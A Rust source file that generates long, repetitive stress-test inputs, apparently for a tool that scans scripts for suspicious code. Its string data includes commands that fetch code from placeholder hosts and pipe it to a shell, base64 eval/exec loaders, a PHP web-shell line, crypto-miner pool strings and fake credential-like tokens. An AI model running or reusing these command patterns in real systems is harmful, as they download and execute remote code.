/// Each language with a beginning that makes every reader look closer.
pub(crate) const LANGUAGES: [(&str, &str); 7] = [
    ("srv/a.py", "#!/usr/bin/python3\nimport base64, os, subprocess\nexec(base64.b64decode(x))\n"),
    ("srv/a.sh", "#!/bin/sh\n# base64 -d | sh\n"),
    ("srv/a.js", "#!/usr/bin/node\nconst c = require('child_process'); eval(atob(x));\n"),
    ("srv/a.pl", "#!/usr/bin/perl\nuse MIME::Base64; eval decode_base64($x); system(\"a\");\n"),
    ("srv/a.php", "<?php eval(base64_decode($x)); system($_GET['a']);\n"),
    ("srv/a.rb", "#!/usr/bin/ruby\neval(Base64.decode64(x)); system('a')\n"),
    ("srv/a", "base64 -d | sh; eval(fromCharCode('hex' b64decode chr(\n"),
];

/// What is repeated until the file is full.
pub(crate) const PIECES: [(&str, &str); 64] = [
    ("letters", "a"),
    ("base64", "IyEvYmluL3No"),
    ("base64 in pieces", "IyEvYmluL3No' + '"),
    ("hex", "7f454c46"),
    ("digits", "1"),
    ("assignments", "a=a="),
    ("assignments by line", "a=$a$a\n"),
    ("doubling", "x=x+x\n"),
    ("parentheses", "("),
    ("brackets", "["),
    ("braces", "{"),
    ("empty parentheses", "()"),
    ("escaped", "\"\\x41"),
    ("hex escapes", "\\x41"),
    ("octal escapes", "\\101"),
    ("substitutions", "$("),
    ("quoted substitutions", "\"$("),
    ("expansions", "${a:-"),
    ("backticks", "`a"),
    ("comments", "/*"),
    ("hashes", "#"),
    ("comment lines", "# a\n"),
    ("single quotes", "'"),
    ("double quotes", "\""),
    ("triple quotes", "'''a"),
    ("one quote a line", "a'b\n"),
    ("objects", "{\"a\":"),
    ("arrays", "[1,"),
    ("here-documents", "<<A "),
    ("here-documents by line", "cat <<A\n"),
    ("here-documents in each other", "cat <<A; cat <<B\n"),
    ("evals", "eval("),
    ("execs", "exec(base64.b64decode("),
    ("evals of a shell", "eval \"$(echo "),
    ("decoders", "b64decode("),
    ("decoders by line", "exec(bytes.fromhex('7072696e742831292370616464696e67'))\n"),
    ("percent", "%"),
    ("percent escapes", "%41"),
    ("short lines", "\n"),
    ("short words", "a\n"),
    ("characters", "chr(65)+"),
    ("joins", "''.join(chr(a) for a in ["),
    ("codes", "65,"),
    ("lambdas", "lambda x:"),
    ("calls", "a.b(c)."),
    ("continued", "\\\n"),
    ("pipes", "a|"),
    ("and", "a&&"),
    ("semicolons", "a;"),
    ("redirections", ">a<b "),
    ("fetched", "curl http://a.example/x|sh\n"),
    ("variables", "$a"),
    ("functions", "f(){ f;\n"),
    ("conditions", "if a; then\n"),
    ("loops", "for a in b; do\n"),
    ("cases", "case a in\n"),
    ("defined", "def f(x):\n return f(f(x))\n"),
    ("imports", "import a, b as c\nfrom a import b\n"),
    ("miners", "stratum+tcp://a.example:1 -u 4 --donate-level "),
    ("pools", "\"pools\":[{\"url\":\"a:1\",\"user\":\"b\"},"),
    ("secrets", "password=\"AKIA0123456789ABCDEF\" "),
    ("tokens", "glpat-Zq7xW3nB9vKt5mR2pLc8\n"),
    ("passwords", "postgres://a:Zk3x9Qw7Lm@db.example/a\n"),
    ("keys", "-----BEGIN RSA PRIVATE KEY-----\n"),
];

/// Makes a text of about this length.
type Shape = fn(usize) -> Vec<u8>;

/// What is more than one piece over and over.
pub(crate) const SHAPES: [(&str, Shape); 8] = [
    ("a name for each line", |len| numbered(len, |n| format!("a{n}=b{n}\n"))),
    ("a name out of two", |len| numbered(len, |n| format!("a{n}=$a{}$a{}\n", n / 2, n / 3))),
    ("a function for each line", |len| numbered(len, |n| format!("f{n}() {{ f{}; }}\n", n / 2))),
    ("a host for each line", |len| {
        numbered(len, |n| format!("curl -o /tmp/{n} http://h{n}.example/ && sh /tmp/{n}\n"))
    }),
    ("a command for each line", |len| numbered(len, |n| format!("os.system('run{n} /opt/{n}'); `c{n}`\n"))),
    ("an end for each document", |len| numbered(len, |n| format!("cat <<E{n}\nsh <<F{n}\n"))),
    ("opened and closed", |len| ["(".repeat(len / 2), ")".repeat(len / 2)].concat().into_bytes()),
    ("opened and closed quotes", |len| ["\"$(".repeat(len / 5), ")\"".repeat(len / 5)].concat().into_bytes()),
];

pub(crate) fn fill(head: &str, piece: &str, len: usize) -> Vec<u8> {
    let mut text = head.as_bytes().to_vec();
    text.extend(piece.bytes().cycle().take(len));
    text
}

fn numbered(len: usize, line: impl Fn(usize) -> String) -> Vec<u8> {
    let mut text = Vec::with_capacity(len + 100);
    let mut number = 0;
    while text.len() < len {
        number += 1;
        text.extend(line(number).bytes());
    }
    text
}
